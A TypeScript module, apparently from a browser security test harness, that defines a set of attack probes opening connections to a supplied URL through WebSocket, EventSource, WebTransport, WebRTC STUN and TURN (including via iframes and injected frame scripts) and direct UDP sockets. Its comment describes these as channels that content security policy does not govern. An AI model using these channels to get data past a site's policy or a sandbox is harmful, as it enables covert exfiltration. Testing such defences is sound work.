import { call, get, inGroup, make } from './attack.ts';
import { put, trust } from './put.ts';

const toSocket = (url: string) => url.replace(/^http/, 'ws');

const connected = (target: EventTarget) =>
	new Promise<'sent'>((resolve) => {
		target.addEventListener('open', () => resolve('sent'));
	});

/** Starts a call that has to ask a server for this machine's address. */
async function startCall(realm: unknown, className: string, url: string, kind: 'stun' | 'turn') {
	const { hostname, port } = new URL(url);
	const found = get(realm, className);
	if (typeof found !== 'function') return;
	const login = { username: 'leak', credential: 'leak' };
	const server = { urls: `${kind}:${hostname}:${port}`, ...(kind === 'turn' ? login : {}) };
	const peer: unknown = Reflect.construct(found, [{ iceServers: [server] }]);
	call(peer, 'createDataChannel', 'leak');
	const offer = await call(peer, 'createOffer');
	await call(peer, 'setLocalDescription', offer);
}

async function startDirect(url: string): Promise<void> {
	const { hostname, port } = new URL(url);
	const opened = get(
		make('UDPSocket', { remoteAddress: hostname, remotePort: Number(port) }),
		'opened'
	);
	await opened;
}

/** Lines that stay open, and ways that no content security policy governs. */
export const socketAttacks = inGroup('sockets', [
	{
		id: 'web-socket',
		title: 'A line that stays open (WebSocket)',
		run: ({ url }) => connected(new WebSocket(toSocket(url))),
	},
	{
		id: 'web-socket-own-site',
		title: 'The same to this site’s own host',
		run: ({ own }) => connected(new WebSocket(toSocket(own))),
	},
	{
		id: 'web-socket-stream',
		title: 'The same as a stream',
		run: ({ url }) => get(make('WebSocketStream', toSocket(url)), 'opened'),
	},
	{
		id: 'event-source',
		title: 'A stream of events',
		run: ({ url }) => connected(new EventSource(url)),
	},
	{
		id: 'web-transport',
		title: 'A line of the newest kind (WebTransport)',
		run: ({ url }) => get(make('WebTransport', url), 'ready'),
	},
	{
		id: 'web-rtc',
		title: 'A call between browsers (WebRTC)',
		run: ({ url }) => startCall(globalThis, 'RTCPeerConnection', url, 'stun'),
	},
	{
		id: 'web-rtc-relay',
		title: 'The same through a relay',
		run: ({ url }) => startCall(globalThis, 'RTCPeerConnection', url, 'turn'),
	},
	{
		id: 'web-rtc-old-name',
		title: 'The same by its old name',
		run: ({ url }) => startCall(globalThis, 'webkitRTCPeerConnection', url, 'stun'),
	},
	{
		id: 'web-rtc-by-frame',
		title: 'The same, taken from the window of an empty frame',
		run: ({ url }) => {
			const frame = put(document.createElement('iframe'));
			return startCall(frame.contentWindow, 'RTCPeerConnection', url, 'stun');
		},
	},
	{
		id: 'web-rtc-in-frame',
		title: 'The same, by a script in a frame',
		run: ({ url }) => {
			const { hostname, port } = new URL(url);
			const server = JSON.stringify({ iceServers: [{ urls: `stun:${hostname}:${port}` }] });
			const frame = document.createElement('iframe');
			const code = `const p = new RTCPeerConnection(${server}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));`;
			const script = document.createElement('script');
			Reflect.set(script, 'text', trust('Script', code));
			Reflect.set(frame, 'srcdoc', trust('HTML', script.outerHTML));
			put(frame);
		},
	},
	{
		id: 'direct-socket',
		title: 'A bare connection to another machine',
		run: ({ url }) => startDirect(url),
	},
]);
